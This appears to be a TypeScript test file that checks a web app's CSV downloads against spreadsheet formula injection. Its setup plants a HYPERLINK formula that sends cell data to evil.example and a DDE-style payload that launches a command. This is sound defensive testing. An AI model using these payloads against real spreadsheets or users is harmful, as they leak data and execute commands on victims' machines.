import fs from 'node:fs';
import path from 'node:path';
import { expect } from 'chai';
import { parse } from 'csv-parse/sync';
import { lastEndedQuarter } from '../../modules/board/quarters';
import { londonToday } from '../../modules/compliance/service';
import { DEMO_PASSWORD } from '../../server/demo';
import { startTestServer, TestAgent, type TestServer } from '../support/server';

const ROOT = path.resolve(__dirname, '../..');
const FORMULA_START = /^[=+\-@\t\r]/;

function sourceFiles(dir: string): string[] {
  return fs.readdirSync(dir, { withFileTypes: true }).flatMap((e) => {
    const full = path.join(dir, e.name);
    if (e.isDirectory()) return sourceFiles(full);
    return e.name.endsWith('.ts') && !e.name.includes('.test.') && !e.name.includes('.suite.') ? [full] : [];
  });
}

/**
 * A name typed into an import or a form ("=HYPERLINK(...)") must not run as a
 * formula when a lead or an administrator opens a download in a spreadsheet.
 */
describe('CSV downloads and formula injection', () => {
  let server: TestServer;
  let admin: TestAgent;
  const last = lastEndedQuarter(londonToday());

  before(async () => {
    server = await startTestServer({ demo: true });
    const pool = server.product.database.pool;
    // What an attacker with an organisation's settings or a staff import can write.
    await pool.query(`update organisations set name = '=HYPERLINK("http://evil.example/?"&A1,"' || name || '")'`);
    await pool.query(`update staff set name = '@SUM(1+1)*cmd|'' /C calc''!A0 ' || name, team = '-2+3'`);
    admin = new TestAgent(server.url);
    await admin.signIn('admin@vale-partnership.example', DEMO_PASSWORD);
    await admin.postForm('/board/snapshots', { quarter: last.id, retake: 'yes' });
  });
  after(async () => {
    await server?.close();
  });

  it('writes every cell of every CSV download so a spreadsheet shows it as text', async () => {
    const downloads = [
      '/compliance/vale-county-council/staff.csv',
      '/compliance/vale-county-council/counts.csv?by=team',
      '/compliance/vale-county-council/chase.csv',
      `/board/report/${last.id}.csv`,
      '/board/licensing.csv',
      '/training-sessions/charges?format=csv',
    ];
    let planted = 0;
    for (const url of downloads) {
      const res = await admin.request('GET', url);
      expect(res.status, url).to.equal(200);
      expect(res.headers.get('content-type'), url).to.match(/^text\/csv/);
      const rows = parse(await res.text(), { relax_column_count: true }) as string[][];
      for (const cell of rows.flat()) expect(cell, `${url}: ${cell}`).to.not.match(FORMULA_START);
      planted += rows.flat().filter((c) => /^'[=@-]/.test(c)).length;
    }
    expect(planted, 'the planted names reached the downloads').to.be.greaterThan(3);
  });

  it('has one CSV writer: no module sends CSV or uses a CSV library without the guard', () => {
    const writers = [...sourceFiles(path.join(ROOT, 'modules')), ...sourceFiles(path.join(ROOT, 'server'))]
      .filter((f) => f !== path.join(ROOT, 'server/csv.ts'))
      .filter((f) => /csv-stringify|text\/csv/.test(fs.readFileSync(f, 'utf8')));
    expect(writers.map((f) => path.relative(ROOT, f))).to.deep.equal([]);
  });
});
